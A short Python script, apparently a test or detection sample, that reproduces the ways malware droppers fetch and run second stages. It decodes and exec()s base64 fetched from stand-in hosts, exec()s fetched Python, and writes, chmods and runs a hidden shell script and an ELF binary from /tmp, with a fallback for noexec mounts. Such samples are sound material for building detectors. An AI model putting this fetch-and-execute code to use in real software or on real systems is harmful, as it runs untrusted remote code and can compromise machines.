# Second stages in the forms droppers fetch them: base64 text decoded and
# exec()d in-process (package-test-index's loader), Python exec()d as
# fetched (certifo), a .sh written then run, and a program (ELF) written,
# made executable and run (where the file system lets it: docker's /tmp
# and /work are noexec).
import base64, os, subprocess, urllib.request

def get(url):
    return urllib.request.urlopen(url, timeout=5).read()

exec(base64.b64decode(get("http://cdn.evil-cdn.example/p/loader.b64")))

exec(get("http://198.51.100.7/s/stage.py"))

sh = "/tmp/.i.sh"
with open(sh, "wb") as f:
    f.write(get("http://get.evil-cdn.example/i.sh"))
os.chmod(sh, 0o755)
try:
    subprocess.run([sh])
except PermissionError:
    subprocess.run(["sh", sh])  # a noexec file system: droppers' fallback

exe = "/tmp/.agent"
with open(exe, "wb") as f:
    f.write(get("http://198.51.100.7/bin/agent.bin"))
os.chmod(exe, 0o755)
try:
    subprocess.run([exe])
except OSError as e:
    print("the program did not run:", e)
print("stages ran")
